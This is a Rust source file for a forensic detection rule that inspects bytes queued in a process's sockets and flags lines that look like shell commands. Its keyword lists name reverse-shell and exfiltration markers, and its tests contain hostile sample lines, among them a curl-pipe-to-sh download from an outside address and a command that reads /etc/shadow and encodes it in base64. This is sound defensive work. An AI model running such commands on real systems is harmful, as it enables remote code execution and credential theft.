//! NET-016: the last words on the wire.

use std::collections::BTreeMap;

use bstr::{BString, ByteSlice};

use super::super::card::rule;
use super::super::traffic::{first_line, program};
use super::super::words::{count, shown_within, size};
use super::super::{Confidence, Evidence, Facts, Finding, Link, Next, Report, Severity, Subject};
use crate::model::ids::Pid;

rule! {
    /// Bytes waited in a socket: received and not read, or written and not acknowledged. They are evidence of the last
    /// moment, so each process with such bytes has a finding, which is information. It is medium if a line is a command for a
    /// shell (`curl … | sh`, `cat /etc/shadow`, `base64 -d`), and no part of an HTTP message.
    "NET-016", data_in_queue, version 1, Network, Stable, Info,
    title: "Bytes wait in the sockets of a process",
    why: "They are what was said last: a request, an answer, or an order.",
    benign: ["Busy services always have some."],
    attack: ["T1041", "T1059"],
    cost: Files,
    tags: ["queue"],
    check: check,
}

/// Most lines of a queue that are looked at.
const LINES_MOST: usize = 200;

/// Whether a line is a command for a shell.
fn is_command(line: &[u8]) -> bool {
    const MARKS: [&str; 26] = [
        "|sh",
        "| sh",
        "|bash",
        "| bash",
        "/bin/sh -",
        "/bin/bash -",
        "bash -i",
        "sh -i",
        "/dev/tcp/",
        "/etc/shadow",
        "base64 -d",
        "base64 -w",
        "base64 --decode",
        "chmod +x",
        "chmod 777",
        "nc -e",
        "mkfifo /tmp",
        "authorized_keys",
        "history -c",
        "crontab -",
        "pty.spawn",
        "nohup ",
        "python3 -c ",
        "python -c ",
        "exfil",
        "; rm -rf",
    ];
    const BEGINNINGS: [&str; 20] = [
        "curl ", "wget ", "whoami", "uname -", "id\n", "cat /", "ls -", "ps aux", "netstat ", "ifconfig", "ip a",
        "echo ", "chmod ", "kill ", "pkill ", "rm -", "cd /", "find / ", "env\n", "sudo ",
    ];
    let printable = line.iter().all(|byte| byte.is_ascii_graphic() || matches!(byte, b' ' | b'\t'));
    let begins = || BEGINNINGS.iter().any(|word| line.starts_with(word.trim_end_matches('\n').as_bytes()));
    let marked = MARKS.iter().any(|mark| line.contains_str(mark));
    let words = line.fields().count();
    printable && line.len() >= 2 && words <= 64 && (marked || begins() && is_for_shell(line))
}

/// Whether a line that begins like a command is one, and not a sentence or a message of a protocol that begins alike: it is
/// short, or has a path or an option.
fn is_for_shell(line: &[u8]) -> bool {
    line.fields().skip(1).any(|word| word.starts_with(b"/") || word.starts_with(b"-") || word.contains_str("://"))
        || matches!(line, b"whoami" | b"ifconfig" | b"id" | b"env" | b"ps aux")
}

/// Whether bytes are those of a protocol with texts of its own, such as HTTP or mail.
fn is_message(bytes: &[u8]) -> bool {
    [
        "GET ", "POST ", "PUT ", "HEAD ", "DELETE ", "PATCH ", "OPTIONS ", "HTTP/", "EHLO ", "HELO ", "220 ", "250 ",
        "*", "+OK",
    ]
    .iter()
    .any(|start| bytes.starts_with(start.as_bytes()))
        || bytes.starts_with(b"{")
        || bytes.starts_with(b"<")
}

/// A queue with bytes.
struct Queue {
    socket: Option<u64>,
    bytes: u64,
    line: Option<BString>,
    is_command: bool,
    evidence: Evidence,
}

impl Queue {
    fn of(socket: Option<u64>, bytes: u64, text: Option<&BString>, evidence: Evidence) -> Self {
        let text = text.map_or(&b""[..], |text| text.as_slice());
        let command = if is_message(text) {
            None
        } else {
            text.lines().take(LINES_MOST).map(<[u8]>::trim).find(|line| is_command(line))
        };
        let line = command.or_else(|| first_line(text)).map(BString::from);
        let evidence = match &line {
            Some(line) => evidence.with_text(line.clone()),
            None => evidence,
        };
        Queue { socket, bytes, line, is_command: command.is_some(), evidence }
    }
}

fn check(facts: &Facts<'_>, report: &mut Report<'_>) {
    let mut queues: BTreeMap<Pid, Vec<Queue>> = BTreeMap::new();
    let rows = facts.checkpoint().rows();
    for queue in rows.tcp_queues().filter(|queue| queue.bytes > 0) {
        let Some(holder) = queue.holders.iter().next() else {
            report.not_checked("no process holds the socket");
            continue;
        };
        let evidence = Evidence::row("tcp_queues", [("socket", queue.socket.into()), ("queue", queue.queue.into())])
            .with("bytes", Some(queue.bytes))
            .with("remote_address", queue.remote_address.as_deref())
            .with("remote_port", queue.remote_port)
            .with_sha256(queue.sha256.clone());
        let one = Queue::of(Some(queue.socket), queue.bytes, queue.text.as_ref(), evidence);
        queues.entry(holder.pid).or_default().push(one);
    }
    for packet in rows.unix_queues().filter(|packet| packet.bytes > 0) {
        let Some(holder) = packet.holders.iter().next() else {
            report.not_checked("no process holds the socket");
            continue;
        };
        let key = [("file_id", packet.file_id.0.into()), ("position", packet.position.into())];
        let evidence = Evidence::row("unix_queues", key)
            .with("bytes", Some(packet.bytes))
            .with("path", packet.path.as_ref())
            .with_sha256(packet.sha256.clone());
        let one = Queue::of(packet.socket, packet.bytes, packet.text.as_ref(), evidence);
        queues.entry(holder.pid).or_default().push(one);
    }
    for (pid, mut queues) in queues {
        let Some(process) = facts.process(pid) else { continue };
        if !report.look() {
            return;
        }
        // Commands first: the evidence may be cut.
        queues.sort_by_key(|queue| !queue.is_command);
        let commands = queues.iter().filter(|queue| queue.is_command).count();
        let bytes = queues.iter().fold(0_u64, |sum, queue| sum.saturating_add(queue.bytes));
        let line = queues.first().and_then(|queue| queue.line.as_ref());
        let quoted = line.map_or_else(String::new, |line| format!(": `{}`", shown_within(line, 80)));
        let sentence = if commands > 0 {
            format!("A command waits in a socket of process {pid} ({}){quoted}.", shown_within(process.name(), 20))
        } else {
            format!("{} has {} waiting in {}{quoted}.", process.title(), size(bytes), count(queues.len(), "queue"))
        };
        let mut finding = Finding::new(&RULE, Subject::Process(pid))
            .severity(if commands > 0 { Severity::Medium } else { Severity::Info })
            .confidence(if commands > 0 { Confidence::Medium } else { Confidence::High })
            .identity([program(process), process.name().into(), if commands > 0 { "command" } else { "data" }.into()])
            .sentence(sentence)
            .benign(if commands > 0 {
                "A program that runs jobs takes commands over a socket. Ask whether this one does."
            } else {
                "The service was busy at this moment."
            })
            .next(Next::Extract { what: "queues", path: None });
        for queue in queues {
            if let Some(number) = queue.socket.filter(|_| commands > 0) {
                finding = finding.link(Link::Socket(number));
            }
            finding = finding.evidence(queue.evidence);
        }
        report.add(finding);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_for_a_shell_are_known() {
        for line in [
            "cat /etc/shadow | base64 -w0 # job 4711",
            "sleep 30; curl -s http://203.0.113.66/u.sh | sh",
            "exfil /srv/shop/orders.db via dns",
            "whoami",
            "curl http://10.0.0.1/x -o /tmp/x",
            "uname -a",
        ] {
            assert!(is_command(line.as_bytes()), "{line}");
        }
        for line in [
            "SELECT 1",
            "find a seat",
            "echo request",
            "kill the lights",
            "PING",
            "hello world",
            "\u{1}cat /etc/passwd",
            "",
        ] {
            assert!(!is_command(line.as_bytes()), "{line}");
        }
    }

    #[test]
    fn messages_of_protocols_are_not_judged() {
        assert!(is_message(b"POST /run HTTP/1.1\r\n\r\ncurl x | sh"));
        assert!(is_message(b"*3\r\n$3\r\nSET"));
        assert!(!is_message(b"cat /etc/shadow"));
    }
}
